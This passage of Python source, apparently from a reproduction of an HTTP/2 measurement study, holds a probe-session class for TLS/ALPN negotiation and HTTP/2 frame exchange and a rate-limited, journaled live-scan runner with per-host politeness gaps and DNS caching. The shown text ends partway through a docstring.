        """TCP connect; returns success and records the handshake RTT."""
        attempt = self.backend.connect(self.domain, self.port)
        self._wait(
            lambda: attempt.established or attempt.refused,
            self._budget(timeout, "tcp connect"),
        )
        if not attempt.established:
            if self._raise_faults():
                # Wall-clock backends flag attempts that died in name
                # resolution; report those as DNS, not refused, so the
                # campaign layer can quarantine instead of retrying.
                if getattr(attempt, "dns_failure", False):
                    raise DnsFault(
                        f"{self.domain}:{self.port}: name resolution failed"
                    )
                raise ConnectionRefusedFault(
                    f"{self.domain}:{self.port}: connection refused"
                )
            return False
        self.tls.tcp_handshake_rtt = attempt.handshake_rtt
        self.endpoint = attempt.endpoint
        assert self.endpoint is not None
        self.endpoint.on_data = self._on_data
        self.endpoint.on_close = self._on_close
        # Bytes the server sent before on_data was attached (a server
        # that speaks first, or a shared-loop pump delivering connect
        # completion and first segment together) sit in the endpoint's
        # receive buffer: drain them into the limbo path now instead of
        # stranding them.  The simulator never has any (no time passes
        # between completion and attach), so sim bytes are unaffected.
        pending = self.endpoint.drain()
        if pending:
            self._on_data(pending)
        return True

    def tls_handshake(self, timeout: float = DEFAULT_TIMEOUT) -> TlsOutcome:
        """Exchange hellos; sets :attr:`tls` and returns it."""
        assert self.endpoint is not None, "connect() first"
        self._mode = "hello"
        self.endpoint.send(encode_client_hello(self.alpn, self.offer_npn))
        self._replay_limbo()  # a server that spoke before our hello
        self._wait(
            lambda: self._mode != "hello",
            self._budget(timeout, "tls hello"),
        )
        if self._raise_faults():
            if self._mode == "reset":
                raise ConnectionResetFault(
                    f"{self.domain}:{self.port}: reset during TLS hello"
                )
            if self._mode == "failed":
                raise TlsFault(f"{self.domain}: malformed server hello")
            if self._mode == "hello":
                raise ProbeTimeout(
                    f"{self.domain}: no server hello within {timeout}s"
                )
        return self.tls

    def establish_h2(self, timeout: float = DEFAULT_TIMEOUT) -> bool:
        """connect + TLS + HTTP/2 preface/SETTINGS, in one call."""
        if not self.connect(timeout=timeout):
            return False
        self.tls_handshake(timeout=timeout)
        if self.tls.chosen != H2:
            return False
        self.start_h2()
        # Wait for the server's SETTINGS (or silence).
        self.wait_for(
            lambda: any(
                isinstance(te.event, ev.SettingsReceived) for te in self.events
            ),
            timeout=timeout,
        )
        return True

    def start_h2(self) -> None:
        """Attach the HTTP/2 engine and send preface + our SETTINGS."""
        config = ConnectionConfig(
            side=Side.CLIENT,
            strict=False,
            auto_settings_ack=True,
            auto_ping_ack=True,
            auto_window_update=self.auto_window_update,
            initial_settings=self.initial_settings,
        )
        self.conn = H2Connection(config)
        self._mode = "h2"
        self.conn.initiate()
        self.flush()
        self._replay_limbo()

    def _replay_limbo(self) -> None:
        """Feed bytes that arrived before the current mode was entered."""
        if self._limbo_buffer:
            data = bytes(self._limbo_buffer)
            self._limbo_buffer.clear()
            self._on_data(data)

    # ------------------------------------------------------------------
    # Inbound
    # ------------------------------------------------------------------

    def _on_data(self, data: bytes) -> None:
        if self._mode == "hello":
            self._hello_buffer += data
            if b"\n" not in self._hello_buffer:
                return
            line, _, rest = self._hello_buffer.partition(b"\n")
            self._hello_buffer = b""
            self._finish_hello(line)
            if rest:
                self._on_data(rest)
            return
        if self._mode == "http1":
            if not self._raw_http1:
                self._http1_response_at = self.backend.now
            self._raw_http1.extend(data)
            return
        if self._mode in ("negotiated", "idle"):
            # Not parsing yet (pre-hello, or between hello completion
            # and engine attach): hold the bytes for _replay_limbo
            # instead of dropping them on the floor.
            self._limbo_buffer.extend(data)
            return
        if self._mode != "h2" or self.conn is None:
            return
        frame_count = len(self.conn.frame_log)
        try:
            produced = self.conn.receive_bytes(data)
        except H2Error as exc:
            self.errors.append(f"{type(exc).__name__}: {exc}")
            produced = []
        now = self.backend.now
        for frame in self.conn.frame_log[frame_count:]:
            self.frames.append(TimedFrame(at=now, frame=frame))
            if self._trace is not None:
                self._trace.record(now, frame)
        for event in produced:
            self.events.append(TimedEvent(at=now, event=event))
        self.flush()

    def _on_close(self) -> None:
        """Peer-initiated close (our own ``close()`` never lands here)."""
        self.peer_closed = True
        if self._mode == "hello":
            self._mode = "reset"

    def _finish_hello(self, line: bytes) -> None:
        try:
            alpn_choice, npn_list = decode_server_hello(line)
        except ValueError:
            self.errors.append("malformed server hello")
            self._mode = "failed"
            return
        outcome = self.tls
        outcome.connected = True
        outcome.alpn_protocol = alpn_choice
        if npn_list is not None:
            # NPN: the client picks from the server's advertisement.
            for proto in self.npn_prefs:
                if proto in npn_list:
                    outcome.npn_protocol = proto
                    break
        if outcome.alpn_protocol is not None:
            outcome.chosen = outcome.alpn_protocol
            outcome.mechanism = "alpn"
        elif outcome.npn_protocol is not None:
            outcome.chosen = outcome.npn_protocol
            outcome.mechanism = "npn"
        self._mode = "negotiated"

    # ------------------------------------------------------------------
    # Outbound helpers
    # ------------------------------------------------------------------

    def flush(self) -> None:
        if self.conn is None or self.endpoint is None or self.endpoint.closed:
            return
        data = self.conn.data_to_send()
        if data:
            self.endpoint.send(data)

    def request(
        self,
        path: str = "/",
        end_stream: bool = True,
        priority: PriorityData | None = None,
        extra_headers: list[tuple[str, str]] | None = None,
    ) -> int:
        """Send a GET request; returns the new stream id."""
        assert self.conn is not None
        stream_id = self.conn.next_stream_id()
        headers: list[tuple[str, str]] = [
            (":method", "GET"),
            (":scheme", "https"),
            (":path", path),
            (":authority", self.domain),
            ("user-agent", "h2scope/1.0"),
        ]
        headers.extend(extra_headers or [])
        self.conn.send_headers(
            stream_id, headers, end_stream=end_stream, priority=priority
        )
        self.flush()
        return stream_id

    def send_settings(self, settings: dict[int, int]) -> None:
        assert self.conn is not None
        self.conn.send_settings(settings)
        self.flush()

    def send_window_update(self, stream_id: int, increment: int) -> None:
        assert self.conn is not None
        self.conn.send_window_update(stream_id, increment)
        self.flush()

    def send_priority(
        self, stream_id: int, depends_on: int, weight: int = 16, exclusive: bool = False
    ) -> None:
        assert self.conn is not None
        self.conn.send_priority(stream_id, depends_on, weight, exclusive)
        self.flush()

    def send_ping(self, payload: bytes = b"h2scope!") -> None:
        assert self.conn is not None
        self.conn.send_ping(payload)
        self.flush()

    def send_rst_stream(self, stream_id: int, error_code: int = 8) -> None:
        assert self.conn is not None
        self.conn.send_rst_stream(stream_id, error_code)
        self.flush()

    # ------------------------------------------------------------------
    # Waiting / inspection
    # ------------------------------------------------------------------

    def wait_for(self, predicate, timeout: float = DEFAULT_TIMEOUT) -> bool:
        """Advance the backend clock until ``predicate()`` or timeout.

        Under a resilience policy the wait is additionally bounded by
        the per-attempt deadline; :class:`DeadlineExceeded` is raised
        once the budget is spent.
        """
        return self._wait(predicate, self._budget(timeout, "wait"))

    def settle(self, quiet_period: float = 1.0, timeout: float = 30.0) -> None:
        """Run until no new events arrive for ``quiet_period`` seconds."""
        quiet = self.backend.scale(quiet_period)
        deadline = self.backend.now + self.backend.scale(timeout)
        while self.backend.now < deadline:
            count = len(self.events)
            self._wait(
                lambda: len(self.events) > count,
                self._clamp(min(quiet, deadline - self.backend.now), "wait"),
            )
            if len(self.events) == count:
                return

    def events_of(self, event_type) -> list[TimedEvent]:
        return [te for te in self.events if isinstance(te.event, event_type)]

    def stream_events(self, stream_id: int, event_type=None) -> list[TimedEvent]:
        out = []
        for te in self.events:
            if getattr(te.event, "stream_id", None) != stream_id:
                continue
            if event_type is not None and not isinstance(te.event, event_type):
                continue
            out.append(te)
        return out

    def headers_for(self, stream_id: int) -> ev.HeadersReceived | None:
        for te in self.events_of(ev.HeadersReceived):
            if te.event.stream_id == stream_id:
                return te.event
        return None

    def data_for(self, stream_id: int) -> bytes:
        return b"".join(
            te.event.data
            for te in self.events_of(ev.DataReceived)
            if te.event.stream_id == stream_id
        )

    def close(self) -> None:
        if self.endpoint is not None and not self.endpoint.closed:
            self.endpoint.close()

    # ------------------------------------------------------------------
    # HTTP/1.1 mode (for the Fig. 6 h1-request RTT estimator)
    # ------------------------------------------------------------------

    def upgrade_h2c(self, path: str = "/", timeout: float = DEFAULT_TIMEOUT) -> bool:
        """Attempt an HTTP/1.1 → HTTP/2 cleartext upgrade (RFC 7540 §3.2).

        The client must be connected to a cleartext port (no TLS hello).
        On a 101 response the connection switches to HTTP/2 with the
        upgrading request installed as stream 1; returns whether the
        upgrade succeeded.  A normal HTTP/1.1 response means the server
        declined (or ignores) the Upgrade header.
        """
        import base64

        assert self.endpoint is not None, "connect() first"
        from repro.h2.frames import SettingsFrame

        payload = SettingsFrame(
            settings=[(int(k), int(v)) for k, v in self.initial_settings.items()]
        ).serialize_payload()
        token = base64.urlsafe_b64encode(payload).rstrip(b"=").decode()

        self._mode = "http1"
        self._raw_http1.clear()
        self._replay_limbo()
        self.endpoint.send(
            (
                f"GET {path} HTTP/1.1\r\n"
                f"Host: {self.domain}\r\n"
                "Connection: Upgrade, HTTP2-Settings\r\n"
                "Upgrade: h2c\r\n"
                f"HTTP2-Settings: {token}\r\n\r\n"
            ).encode()
        )
        self._wait(
            lambda: b"\r\n\r\n" in bytes(self._raw_http1),
            self._budget(timeout, "h2c upgrade"),
        )
        raw = bytes(self._raw_http1)
        head, _, rest = raw.partition(b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 101"):
            return False
        self._raw_http1.clear()
        self.start_h2()  # sends the connection preface + SETTINGS
        assert self.conn is not None
        self.conn.upgrade_stream()
        if rest:
            self._on_data(rest)
        return True

    def http1_get(self, path: str = "/", timeout: float = DEFAULT_TIMEOUT) -> float | None:
        """Issue an HTTP/1.1 GET; returns request→first-byte interval."""
        assert self.endpoint is not None
        self._mode = "http1"
        self._raw_http1.clear()
        self._replay_limbo()
        self._http1_response_at = None
        start = self.backend.now
        self.endpoint.send(
            f"GET {path} HTTP/1.1\r\nHost: {self.domain}\r\n\r\n".encode()
        )
        self._wait(
            lambda: self._http1_response_at is not None,
            self._budget(timeout, "http/1.1 response"),
        )
        if self._http1_response_at is None:
            return None
        return self._http1_response_at - start
