"""Live campaign execution: a polite, bounded pool of socket probes.

The paper's headline scans walked the Alexa top-1M over the open
internet — a population with dead domains, slow resolvers, hosts that
reset mid-handshake, and hosts that must not be hammered.  PR 5's
:class:`~repro.net.socket_backend.SocketBackend` drives exactly one
real connection synchronously; this module is the campaign layer that
makes it survive (and be survivable by) a population:

* a **bounded pool**: ``concurrency`` worker threads, each driving one
  in-flight :class:`~repro.scope.session.ProbeSession`.  By default
  (``shared_loop=True``) every session's sockets multiplex onto ONE
  asyncio loop hosted by a
  :class:`~repro.scope.concurrent.LoopDriver`, and each session blocks
  on its backend's wakeup event between deliveries — the single-loop
  design that scales to ~1k in-flight sessions, where N private
  polling loops topped out around a few hundred.  Probes are
  synchronous sans-IO drivers whose wall-clock time is dominated by
  network waits, so the exact probe code the simulator runs is reused
  unchanged (the determinism contract stays untouched);
* a **politeness layer**: per-host serialization with a minimum
  inter-contact gap (:class:`HostPoliteness`) plus a global
  token-bucket contact-rate limiter (:class:`TokenBucket`), installed
  as the backend's connect ``gate`` so *every* TCP connect — including
  retry reconnects — pays the toll;
* a **DNS stage** (:class:`DnsStage`): a concurrent resolver pool with
  positive and negative caching that runs ahead of probing, maps
  resolution failures onto :class:`~repro.scope.resilience.DnsFault`
  (``ErrorClass.DNS``), and quarantines unresolvable sites immediately
  — no connect attempts, no retry budget spent;
* **durability identical to the simulated path**: the same
  :class:`~repro.scope.campaign.CampaignJournal` and manifest checks,
  so ``--resume`` after a crash or SIGKILL skips completed sites and
  retries failed ones exactly as a simulated campaign does.  The one
  deliberate difference: checkpoints are written in *completion* order
  rather than todo order — live wall-clock results are not
  byte-deterministic anyway, and completion order means a crash loses
  at most one unflushed batch instead of everything behind a stalled
  head-of-line site.

Every invariant the pool promises is observable via
:class:`LiveScanMetrics`: in-flight high-water mark (never above
``concurrency``), the per-host contact log (consecutive contacts to a
host are ``per_host_gap`` apart), and the token-grant log (global
contact rate bounded by ``rate`` with ``burst`` slack) — the fleet
tests assert all three while fault-injected workers hit refusals,
stalls and dead resolvers.
"""

from __future__ import annotations

import queue
import socket
import threading
import time
from collections import deque
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field

from repro.net.socket_backend import SocketBackend
from repro.scope.campaign import (
    CampaignInterrupted,
    CampaignJournal,
    CampaignManifest,
    CampaignResult,
    JournalEntry,
    SiteStatus,
)
from repro.scope.report import ErrorClass, ScanError, SiteReport
from repro.scope.resilience import (
    DnsFault,
    ResilienceConfig,
    make_scan_error,
)
from repro.scope.scanner import (
    ScanProgress,
    _validate_include,
    probe_target,
    report_has_dns_error,
)
from repro.scope.session import ProbeSession
from repro.scope.storage import ReportStore


#: Report fields that depend on wall-clock measurement, not on server
#: behaviour: stripped by :func:`verdict_view` so live and simulated
#: scans of the same (seeded) origin can be compared verdict-for-verdict.
_WALL_CLOCK_FIELDS = (
    ("scan_virtual_time",),
    ("probe_attempts",),
    ("negotiation", "tcp_handshake_rtt"),
    ("ping", "tcp_rtt"),
    ("ping", "icmp_rtt"),
    ("ping", "h2_ping_rtt"),
    ("ping", "http1_rtt"),
)


def verdict_view(report) -> dict:
    """A wall-clock-independent projection of a :class:`SiteReport`.

    Everything a report says about *server behaviour* — negotiation
    outcomes, announced settings, flow-control reactions, scheduler
    classification, push, HPACK ratios — survives; RTT measurements and
    timing bookkeeping are dropped.  Two scans of identically seeded
    origins (one simulated, one over real sockets) must agree on this
    view; the loopback-fleet differential asserts exactly that.
    """
    view = asdict(report)
    for path in _WALL_CLOCK_FIELDS:
        node = view
        for key in path[:-1]:
            node = node.get(key) or {}
        node.pop(path[-1], None)
    return view


@dataclass(frozen=True)
class LiveTarget:
    """One live-scan target: a domain to resolve and probe."""

    domain: str


def as_targets(targets) -> list[LiveTarget]:
    """Normalize plain domain strings / Site-likes into LiveTargets."""
    out = []
    for target in targets:
        if isinstance(target, LiveTarget):
            out.append(target)
        elif isinstance(target, str):
            out.append(LiveTarget(domain=target))
        else:
            out.append(LiveTarget(domain=target.domain))
    return out


# ---------------------------------------------------------------------------
# Politeness: token bucket + per-host gap
# ---------------------------------------------------------------------------


class TokenBucket:
    """Global contact-rate limiter (thread-safe, blocking acquire).

    Classic token bucket: tokens refill at ``rate`` per second up to
    ``burst``; each contact costs one token, and :meth:`acquire` blocks
    the calling worker until one is available.  Guarantee: the number
    of grants inside any window of ``w`` seconds never exceeds
    ``burst + rate * w``.  Grant timestamps are kept in :attr:`grants`
    so tests can assert exactly that.
    """

    def __init__(
        self,
        rate: float,
        burst: float | None = None,
        clock=time.monotonic,
        sleep=time.sleep,
    ):
        if rate <= 0:
            raise ValueError(f"rate must be positive, got {rate}")
        self.rate = float(rate)
        self.burst = float(burst) if burst is not None else max(1.0, self.rate)
        self._clock = clock
        self._sleep = sleep
        self._lock = threading.Lock()
        self._tokens = self.burst
        self._last = clock()
        #: Grant timestamps (monotonic seconds), for invariant checks.
        self.grants: list[float] = []

    def acquire(self) -> float:
        """Block until a token is free; returns seconds spent waiting."""
        start = self._clock()
        while True:
            with self._lock:
                now = self._clock()
                self._tokens = min(
                    self.burst, self._tokens + (now - self._last) * self.rate
                )
                self._last = now
                # The epsilon absorbs refill rounding (a 0.2s wait at
                # rate 5 can land at 0.99999999999999998 tokens).
                if self._tokens >= 1.0 - 1e-9:
                    self._tokens = max(0.0, self._tokens - 1.0)
                    self.grants.append(now)
                    return now - start
                shortfall = (1.0 - self._tokens) / self.rate
            # Floor the wait so the clock always advances, even when the
            # shortfall rounds below the clock's resolution.
            self._sleep(max(shortfall, 1e-6))


class _HostSlot:
    __slots__ = ("lock", "last")

    def __init__(self):
        self.lock = threading.Lock()
        self.last: float | None = None


class HostPoliteness:
    """Per-host contact serialization with a minimum inter-contact gap.

    A *contact* is one TCP connection attempt.  :meth:`acquire` blocks
    until the caller holds the host's slot (contacts to one host never
    overlap) and the previous contact is at least ``gap`` seconds old;
    :meth:`commit` stamps the contact time and releases the slot.  The
    stamp happens at commit — after the global rate limiter has also
    granted a token — so the recorded time is the moment the connect
    actually starts.
    """

    def __init__(self, gap: float, clock=time.monotonic, sleep=time.sleep):
        self.gap = max(0.0, float(gap))
        self._clock = clock
        self._sleep = sleep
        self._lock = threading.Lock()
        self._hosts: dict[str, _HostSlot] = {}
        #: ``(host, monotonic_time)`` per contact, in commit order.
        self.contacts: list[tuple[str, float]] = []

    def _slot(self, host: str) -> _HostSlot:
        with self._lock:
            slot = self._hosts.get(host)
            if slot is None:
                slot = self._hosts[host] = _HostSlot()
            return slot

    def acquire(self, host: str) -> None:
        slot = self._slot(host)
        slot.lock.acquire()
        if slot.last is not None and self.gap > 0:
            wait = slot.last + self.gap - self._clock()
            if wait > 0:
                self._sleep(wait)

    def commit(self, host: str) -> None:
        slot = self._slot(host)
        now = self._clock()
        slot.last = now
        with self._lock:
            self.contacts.append((host, now))
        slot.lock.release()


# ---------------------------------------------------------------------------
# DNS stage
# ---------------------------------------------------------------------------


class DnsStage:
    """Concurrent name resolution with positive/negative caching.

    ``resolver`` follows the :class:`SocketBackend` convention: ``None``
    uses the system resolver (``socket.getaddrinfo``); a mapping or
    callable resolves ``(domain, port)`` to ``(host, port)`` or ``None``
    for "no such host" — the hermetic fleets inject their loopback
    mapping here.  Failures raise :class:`DnsFault` and are negatively
    cached so a dead domain costs exactly one lookup per campaign.
    """

    def __init__(self, resolver=None, workers: int = 16):
        self._resolver = resolver
        self.workers = max(1, int(workers))
        self._lock = threading.Lock()
        self._positive: dict[tuple[str, int], tuple[str, int]] = {}
        self._negative: dict[tuple[str, int], str] = {}

    # -- single lookups ----------------------------------------------------

    def _resolve_uncached(self, domain: str, port: int) -> tuple[str, int]:
        resolver = self._resolver
        if resolver is None:
            try:
                infos = socket.getaddrinfo(
                    domain, port, type=socket.SOCK_STREAM
                )
            except socket.gaierror as exc:
                raise DnsFault(f"{domain}: {exc}") from exc
            if not infos:
                raise DnsFault(f"{domain}: resolver returned no addresses")
            host, resolved_port = infos[0][4][:2]
            return (host, resolved_port)
        if callable(resolver):
            address = resolver(domain, port)
        else:
            address = resolver.get((domain, port))
        if address is None:
            raise DnsFault(f"{domain}:{port}: no address")
        return address

    def resolve(self, domain: str, port: int = 443) -> tuple[str, int]:
        """Resolve one (domain, port), consulting and filling the caches."""
        key = (domain, port)
        with self._lock:
            if key in self._positive:
                return self._positive[key]
            if key in self._negative:
                raise DnsFault(self._negative[key])
        try:
            address = self._resolve_uncached(domain, port)
        except DnsFault as exc:
            with self._lock:
                self._negative[key] = str(exc)
            raise
        with self._lock:
            self._positive[key] = address
        return address

    def lookup(self, domain: str, port: int):
        """Backend-facing resolver: cached, raising on negative entries.

        Handed to :class:`SocketBackend` as its ``resolver`` so probe
        connects hit the cache; a miss (e.g. the cleartext port of a
        partially mapped target) resolves inline.
        """
        return self.resolve(domain, port)

    # -- the pre-probe stage ----------------------------------------------

    def resolve_all(
        self, domains, ports: tuple[int, ...] = (443, 80)
    ) -> dict[str, DnsFault | None]:
        """Resolve every domain concurrently ahead of probing.

        Returns ``{domain: None}`` for resolvable sites and
        ``{domain: DnsFault}`` for ones the campaign must quarantine.
        A domain fails only if its *primary* (first listed) port has no
        address; secondary ports are warmed opportunistically so the
        probe phase never blocks on DNS.
        """
        domains = list(dict.fromkeys(domains))  # stable de-dup
        results: dict[str, DnsFault | None] = {}
        if not domains:
            return results
        primary = ports[0]

        def one(domain: str) -> DnsFault | None:
            fault = None
            try:
                self.resolve(domain, primary)
            except DnsFault as exc:
                fault = exc
            else:
                for port in ports[1:]:
                    try:
                        self.resolve(domain, port)
                    except DnsFault:
                        pass  # secondary listener may legitimately miss
            return fault

        workers = min(self.workers, len(domains))
        with ThreadPoolExecutor(
            max_workers=workers, thread_name_prefix="h2scope-dns"
        ) as pool:
            for domain, fault in zip(domains, pool.map(one, domains)):
                results[domain] = fault
        return results


# ---------------------------------------------------------------------------
# Metrics: observable pool/politeness invariants
# ---------------------------------------------------------------------------


@dataclass
class LiveScanMetrics:
    """Counters and logs the invariant tests assert against."""

    in_flight: int = 0
    concurrency_high_water: int = 0
    sessions: int = 0
    dns_quarantined: int = 0
    #: Shared with :class:`HostPoliteness` / :class:`TokenBucket`.
    contacts: list[tuple[str, float]] = field(default_factory=list)
    rate_grants: list[float] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def session_started(self) -> None:
        with self._lock:
            self.in_flight += 1
            self.sessions += 1
            self.concurrency_high_water = max(
                self.concurrency_high_water, self.in_flight
            )

    def session_finished(self) -> None:
        with self._lock:
            self.in_flight -= 1

    # -- invariant helpers (used by tests and the fleet soak) -------------

    def min_host_gap(self) -> float | None:
        """Smallest observed gap between consecutive same-host contacts."""
        last: dict[str, float] = {}
        smallest: float | None = None
        for host, at in self.contacts:
            if host in last:
                gap = at - last[host]
                smallest = gap if smallest is None else min(smallest, gap)
            last[host] = at
        return smallest

    def max_rate(self, window: float = 1.0) -> float:
        """Highest grant count observed in any sliding ``window``."""
        grants = sorted(self.rate_grants)
        best = 0
        lo = 0
        for hi, at in enumerate(grants):
            while at - grants[lo] > window:
                lo += 1
            best = max(best, hi - lo + 1)
        return best


@dataclass(frozen=True)
class LiveConfig:
    """Pool/politeness knobs for one live campaign."""

    concurrency: int = 8
    #: Minimum seconds between contacts (TCP connects) to one host.
    per_host_gap: float = 0.0
    #: Global contact budget: token-bucket rate per second (None = off).
    rate: float | None = None
    burst: float | None = None
    dns_workers: int = 16
    timeout_scale: float = 1.0
    connect_timeout: float = 10.0
    #: Multiplex every session's sockets onto one shared asyncio loop
    #: (:class:`~repro.scope.concurrent.LoopDriver`).  False falls back
    #: to a private polling loop per session (the PR 6 behaviour).
    shared_loop: bool = True


# ---------------------------------------------------------------------------
# The live campaign runner
# ---------------------------------------------------------------------------


@dataclass
class _LiveTask:
    position: int
    site_index: int
    domain: str
    prior_attempts: int = 0


class LiveCampaignRunner:
    """Journaled live scan over a bounded, polite socket-probe pool."""

    def __init__(
        self,
        targets,
        store: ReportStore,
        campaign: str,
        include=None,
        seed: int = 0,
        resilience: ResilienceConfig | None = None,
        resume: bool = False,
        checkpoint_every: int = 25,
        max_site_attempts: int = 3,
        config: LiveConfig | None = None,
        resolver=None,
        progress=None,
        metrics: LiveScanMetrics | None = None,
    ):
        self.targets = as_targets(targets)
        self.store = store
        self.campaign = campaign
        self.include_set = _validate_include(include)
        self.seed = seed
        #: Live probes always run under deadlines: a stalled peer must
        #: be cut off at its budget, not at TCP's.
        self.resilience = resilience or ResilienceConfig()
        self.resume = resume
        self.checkpoint_every = checkpoint_every
        self.max_site_attempts = max_site_attempts
        self.config = config or LiveConfig()
        self.progress = progress
        self.metrics = metrics if metrics is not None else LiveScanMetrics()
        self.dns = DnsStage(
            resolver=resolver, workers=self.config.dns_workers
        )
        self.politeness = HostPoliteness(self.config.per_host_gap)
        self.politeness.contacts = self.metrics.contacts
        self.bucket: TokenBucket | None = None
        if self.config.rate is not None:
            self.bucket = TokenBucket(self.config.rate, self.config.burst)
            self.bucket.grants = self.metrics.rate_grants
        self._stop = threading.Event()
        self._sched_lock = threading.Lock()
        self._pending: deque[_LiveTask] = deque()
        self._busy_hosts: set[str] = set()
        self._completions: queue.Queue = queue.Queue()
        #: Shared asyncio loop host, created for the duration of run().
        self.loop_driver = None

    # -- politeness gate (installed on every backend) ----------------------

    def _gate(self, domain: str, port: int) -> None:
        self.politeness.acquire(domain)
        try:
            if self.bucket is not None:
                self.bucket.acquire()
        finally:
            self.politeness.commit(domain)

    # -- worker side -------------------------------------------------------

    def _next_task(self):
        """Claim the next task whose host is idle (or None when done)."""
        while not self._stop.is_set():
            with self._sched_lock:
                if not self._pending:
                    return None
                for index, task in enumerate(self._pending):
                    if task.domain not in self._busy_hosts:
                        del self._pending[index]
                        self._busy_hosts.add(task.domain)
                        return task
            # Every remaining task's host has an in-flight session
            # (per-host serialization); wait for one to drain.
            time.sleep(0.01)
        return None

    def _scan_one(self, task: _LiveTask) -> SiteReport:
        report = SiteReport(domain=task.domain)
        backend = SocketBackend(
            resolver=self.dns.lookup,
            timeout_scale=self.config.timeout_scale,
            connect_timeout=self.config.connect_timeout,
            gate=self._gate,
            driver=self.loop_driver,
        )
        started = time.monotonic()
        try:
            probe_target(
                ProbeSession(backend),
                task.domain,
                include=self.include_set,
                seed=self.seed,
                resilience=self.resilience,
                report=report,
            )
        except Exception as exc:  # noqa: BLE001 - a driver bug must not
            # kill the worker thread; record it like any probe failure.
            report.errors.append(make_scan_error("live", exc))
        finally:
            # Live scans have no virtual clock: wall seconds spent on
            # this site stand in, feeding the journal and the ETA.
            report.scan_virtual_time = time.monotonic() - started
            backend.close()
        return report

    def _worker(self) -> None:
        while True:
            task = self._next_task()
            if task is None:
                return
            self.metrics.session_started()
            try:
                report = self._scan_one(task)
            finally:
                self.metrics.session_finished()
                with self._sched_lock:
                    self._busy_hosts.discard(task.domain)
            self._completions.put((task, report))

    # -- journal plumbing --------------------------------------------------

    def _entry(self, task: _LiveTask, report: SiteReport) -> JournalEntry:
        attempts = task.prior_attempts + 1
        if not report.failed:
            status = SiteStatus.DONE
        elif report_has_dns_error(report):
            # Unresolvable site: quarantine immediately, never retry.
            status = SiteStatus.QUARANTINED
            attempts = max(attempts, self.max_site_attempts)
        elif attempts >= self.max_site_attempts:
            status = SiteStatus.QUARANTINED
        else:
            status = SiteStatus.FAILED
        return JournalEntry(
            site_index=task.site_index,
            domain=task.domain,
            status=status,
            attempts=attempts,
            report=report,
            virtual_time=report.scan_virtual_time,
            error=str(report.errors[0]) if report.failed else None,
        )

    def _dns_quarantine_report(
        self, domain: str, fault: DnsFault
    ) -> SiteReport:
        report = SiteReport(domain=domain)
        report.errors.append(
            ScanError(
                probe="dns",
                error_class=ErrorClass.DNS,
                exception=type(fault).__name__,
                message=str(fault),
                attempts=1,
            )
        )
        return report

    # -- the run -----------------------------------------------------------

    def run(self) -> CampaignResult:
        journal = CampaignJournal(self.store)
        manifest = CampaignManifest.build(
            self.campaign,
            self.targets,
            self.include_set,
            self.seed,
            None,
            self.resilience,
        )
        if self.resume:
            journal.resume(manifest, self.max_site_attempts)
        else:
            journal.begin(
                manifest, [target.domain for target in self.targets]
            )

        todo = journal.pending(self.campaign, self.max_site_attempts)
        counts = journal.counts(self.campaign)
        virtual_seconds = journal.virtual_seconds(self.campaign)
        dns_failures = journal.dns_failures(self.campaign)
        total = len(self.targets)
        skipped = total - len(todo)

        def emit() -> None:
            if self.progress is not None:
                self.progress(
                    ScanProgress(
                        done=total - counts[SiteStatus.PENDING.value],
                        total=total,
                        errors=counts[SiteStatus.FAILED.value]
                        + counts[SiteStatus.QUARANTINED.value],
                        quarantined=counts[SiteStatus.QUARANTINED.value],
                        dns_failures=dns_failures,
                        virtual_seconds=virtual_seconds,
                    )
                )

        def settle(task: _LiveTask, entry: JournalEntry) -> None:
            nonlocal virtual_seconds, dns_failures
            if task.prior_attempts > 0:  # a retried failure leaves 'failed'
                counts[SiteStatus.FAILED.value] -= 1
            else:
                counts[SiteStatus.PENDING.value] -= 1
            counts[entry.status.value] += 1
            if entry.report.failed and report_has_dns_error(entry.report):
                dns_failures += 1
            virtual_seconds += entry.virtual_time

        # -- DNS stage: quarantine unresolvable sites up front ------------
        resolution = self.dns.resolve_all([domain for _, domain, _ in todo])
        batch: list[JournalEntry] = []
        scanned = 0
        scan_tasks: list[_LiveTask] = []
        for position, (site_index, domain, prior_attempts) in enumerate(todo):
            fault = resolution.get(domain)
            if fault is not None:
                task = _LiveTask(position, site_index, domain, prior_attempts)
                entry = self._entry(
                    task, self._dns_quarantine_report(domain, fault)
                )
                batch.append(entry)
                settle(task, entry)
                scanned += 1
                self.metrics.dns_quarantined += 1
            else:
                scan_tasks.append(
                    _LiveTask(position, site_index, domain, prior_attempts)
                )
        if batch:
            journal.checkpoint(self.campaign, batch)
            batch = []
        emit()

        # -- the pool ------------------------------------------------------
        if self.config.shared_loop and scan_tasks:
            from repro.scope.concurrent import LoopDriver

            self.loop_driver = LoopDriver()
        self._pending.extend(scan_tasks)
        pool_size = min(self.config.concurrency, len(scan_tasks))
        workers = [
            threading.Thread(
                target=self._worker, name=f"h2scope-live-{i}", daemon=True
            )
            for i in range(pool_size)
        ]
        for worker in workers:
            worker.start()

        received = 0
        try:
            while received < len(scan_tasks):
                try:
                    task, report = self._completions.get(timeout=0.25)
                except queue.Empty:
                    if not any(w.is_alive() for w in workers):
                        break  # defensive: pool died, don't spin forever
                    continue
                received += 1
                scanned += 1
                entry = self._entry(task, report)
                batch.append(entry)
                settle(task, entry)
                if len(batch) >= max(1, self.checkpoint_every):
                    journal.checkpoint(self.campaign, batch)
                    batch = []
                emit()
        except (KeyboardInterrupt, SystemExit):
            self._stop.set()
            journal.checkpoint(self.campaign, batch)
            raise CampaignInterrupted(
                self.campaign,
                flushed=scanned,
                remaining=len(todo) - scanned,
            ) from None
        finally:
            self._stop.set()
            for worker in workers:
                # In-flight sessions are deadline-bounded; join so no
                # daemon thread outlives the campaign.
                worker.join(timeout=60)
            if self.loop_driver is not None:
                self.loop_driver.close()
                self.loop_driver = None

        journal.checkpoint(self.campaign, batch)
        return CampaignResult(
            campaign=self.campaign,
            total=total,
            scanned=scanned,
            skipped=skipped,
            counts=journal.counts(self.campaign),
            virtual_seconds=virtual_seconds,
        )


def run_live_campaign(
    targets,
    store: ReportStore,
    campaign: str,
    include=None,
    seed: int = 0,
    resilience: ResilienceConfig | None = None,
    resume: bool = False,
    checkpoint_every: int = 25,
    max_site_attempts: int = 3,
    config: LiveConfig | None = None,
    resolver=None,
    progress=None,
    metrics: LiveScanMetrics | None = None,
) -> CampaignResult:
    """Journaled live scan of ``targets`` over real TCP sockets.

    The wall-clock sibling of
    :func:`~repro.scope.scanner.run_campaign`: same journal, same
